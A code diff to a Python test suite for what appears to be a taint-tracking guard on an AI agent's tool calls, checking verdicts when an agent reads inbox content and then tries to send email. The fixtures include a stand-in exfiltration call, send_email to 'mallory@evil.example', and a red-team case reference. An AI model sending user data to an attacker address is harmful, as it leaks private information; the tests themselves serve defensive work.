@@ -139,9 +139,12 @@ def _result(text: str) -> dict[str, Any]:
     return {"content": [{"type": "text", "text": text}]}
 
 
+@pytest.mark.parametrize("keep", [None, 0, 2 * MIN_CHARS])
 def test_a_session_with_the_worker_gives_the_verdicts_and_reports_of_one_without(
-    rec: Recorder,
+    rec: Recorder, keep: int | None
 ) -> None:
+    """``keep``: after each result, the oldest results are recorded until at most this many
+    characters are left queued (the relay's queue over its cap), through the worker too."""
     results = [_result(_big(t)) for t in TAILS] + [_result("small bob@corp.example")]
     calls = [
         ("send_email", {"to": "mallory@evil.example", "body": "hi"}),
@@ -157,6 +160,9 @@ def test_a_session_with_the_worker_gives_the_verdicts_and_reports_of_one_without
         verdicts = []
         for res in results:
             s.defer_output("read_inbox", res)
+            if keep is not None:
+                s.settle(keep_bytes=keep)
+                s.defer_output("read_inbox", res)  # (queued again: checked after it)
             verdicts.extend(s.check(*c) for c in calls)
         s.settle()
         runs.append((verdicts, seen, s.taint.size_bytes, len(s.secrets)))
@@ -176,10 +182,12 @@ def test_a_dead_worker_degrades_the_session_and_reports_it(rec: Recorder) -> Non
     os.kill(rec.pid, signal.SIGKILL)
     v = s.check("send_email", {"to": "ops@example.com", "body": "hi"})
     (dest,) = extract_destinations("mallory@evil.example")
-    if v.verdict == "allow":
+    if v.rule != "session.degraded":
         # the relay saw the worker dead before handing it the text (red-team S35): the
-        # text was recorded in the relay, exactly as eager recording would have
-        assert rec.failed is not None
+        # text was recorded in the relay, exactly as eager recording would have (a new
+        # destination is asked about; this branch expected "allow" and failed now and then)
+        assert (v.verdict, v.rule) == ("ask", "taint.unverified_destination")
+        assert rec.failed is not None and errors == []
         assert s.taint.lookup(dest) == "tainted" and not s.taint.truncated
     else:
         assert v.verdict == "deny" and v.rule == "session.degraded"
